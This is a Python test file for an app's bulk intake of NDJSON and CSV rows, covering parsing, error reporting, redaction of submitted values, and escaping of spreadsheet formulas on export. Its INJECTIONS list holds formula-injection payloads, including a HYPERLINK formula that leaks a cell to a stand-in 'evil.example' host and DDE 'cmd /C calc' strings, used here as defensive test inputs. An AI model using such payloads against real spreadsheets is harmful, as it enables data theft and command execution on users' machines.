"""What a row may say: NDJSON and CSV mean the same, and a refusal repeats nothing."""

import csv
import io
import json
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.errors import Invalid
from app.http.cells import FORMULA, csv_line
from app.intake.bulk import rows
from app.intake.bulk.rows import Row


def ndjson(*lines: dict[str, Any]) -> list[Row]:
    return list(rows.read("".join(json.dumps(line) + "\n" for line in lines).encode(), "ndjson"))


def table(text: str) -> list[Row]:
    return list(rows.read(text.encode(), "csv"))


def said(row: Row) -> dict[str, Any]:
    """Return what a row asks for, secrets opened."""
    assert row.asked is not None, row.errors
    found = row.asked.model_dump(exclude_none=True)
    for each in found.get("subject", ()):
        each["value"] = each["value"].get_secret_value()
    return found


def test_both_formats_say_the_same() -> None:
    [one] = ndjson({
        "subject": [{"type": "email", "value": "ada@example.org"}, {"type": "card", "value": "7"}],
        "external_ref": "T-1", "identity": "doubted", "submitted_at": "2026-11-02T09:30:00+01:00",
    })  # fmt: skip
    [other] = table(
        "external_ref,email,subject.card,identity,submitted_at\r\n"
        "T-1,ada@example.org,7,doubted,2026-11-02T09:30:00+01:00\r\n"
    )
    assert said(one) == said(other)
    [named] = table("dataset;record_ids\npeople;ada-1|ada-2\n")
    assert said(named)["records"] == {"dataset": "people", "ids": ["ada-1", "ada-2"]}


def test_rows_and_lines_are_counted_for_people() -> None:
    found = table('email,external_ref\n"a@b.c\n",T-1\n\n,\nd@e.f,T-2\n')
    assert [(row.number, row.line) for row in found] == [(1, 2), (2, 6)]
    body = b'\xef\xbb\xbf{"subject":{"type":"email","value":"a@b.c"}}\r\n\r\nnot json\n{"x": 1}'
    assert [(row.number, row.line, row.asked is None) for row in rows.read(body, "ndjson")] == [
        (1, 1, False), (2, 3, True), (3, 4, True),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("line", "errors"),
    [
        ({}, [("/", "subject-or-records")]),
        ({"subject": {"type": "Email", "value": "x"}}, [("/subject/0/type", "string-pattern-mismatch")]),
        ({"subject": {"type": "email", "value": ""}}, [("/subject/0/value", "too-short")]),
        ({"subject": {"type": "email", "value": "x"}, "external_ref": "a b"},
         [("/external_ref", "string-pattern-mismatch")]),
        ({"subject": {"type": "email", "value": "x"}, "ada@example.org": 1}, [("/*", "extra-forbidden")]),
        ({"subject": {"type": "email", "value": "x"}, "submitted_at": "2026-11-02T09:30:00"},
         [("/submitted_at", "timezone-aware")]),
    ],
)  # fmt: skip
def test_why_a_row_is_refused(line: dict[str, Any], errors: list[tuple[str, str]]) -> None:
    [row] = ndjson(line)
    assert list(row.errors) == errors
    assert "ada@example.org" not in repr(row)


def test_a_cell_is_refused_by_its_column() -> None:
    first, second, third = table(
        "external_ref,email,identity,dataset,record_ids\na b,x@y.z,,,\nT,x@y.z,perhaps,,\nT,x@y.z\n"
    )
    assert list(first.errors) == [("/external_ref", "string-pattern-mismatch")]
    assert list(second.errors) == [("/identity", "literal-error")]
    assert list(third.errors) == [("/", "cell-count")]


@pytest.mark.parametrize(
    ("text", "place", "code"),
    [
        ("mail,external_ref\n", "/columns/0", "unknown-column"),
        ("email,email\n", "/columns/0", "duplicate-column"),
        ("external_ref\nT-1\n", "/columns", "nobody-is-named"),
        ("", "/columns", "nobody-is-named"),
        ('email\n"a"b\n', "/lines/2", "csv-malformed"),
        ('email\n"a\n', "/lines/2", "csv-malformed"),
    ],
)
def test_a_file_that_is_none(text: str, place: str, code: str) -> None:
    with pytest.raises(Invalid) as refused:
        table(text)
    assert (place, code) in refused.value.errors


def test_bytes_that_are_no_text_are_no_table() -> None:
    with pytest.raises(Invalid) as refused:
        list(rows.read(b"email\n\xff\xfe\n", "csv"))
    assert refused.value.code == "not-utf-8"


INJECTIONS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
    '=HYPERLINK("http://evil.example?leak="&A1,"click")', "=cmd|' /C calc'!A0", '","=1+1', '"=1+1',
    'DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_cell_is_computed_and_none_breaks_out(text: str) -> None:
    line = csv_line(["before", text, "after"]).decode()
    [cells] = csv.reader(io.StringIO(line, newline=""), strict=True)
    assert (cells[0], cells[2], len(cells)) == ("before", "after", 3)
    assert not cells[1].startswith(FORMULA)
    assert cells[1] in {text, f"'{text}"}


@given(st.lists(st.text(), min_size=1))
def test_every_line_is_read_back_as_it_was_but_for_the_quote(cells: list[str]) -> None:
    [found] = csv.reader(io.StringIO(csv_line(cells).decode("utf-8", "replace"), newline=""), strict=True)
    assert [rows._plain(each) for each in found] == [
        rows._plain(each) if each.startswith("'") else each for each in cells
    ]


@given(st.binary(max_size=400))
def test_no_bytes_are_an_accident(body: bytes) -> None:
    for form in ("csv", "ndjson"):
        with suppress(Invalid):
            assert all(row.asked is not None or row.errors for row in rows.read(body, form))
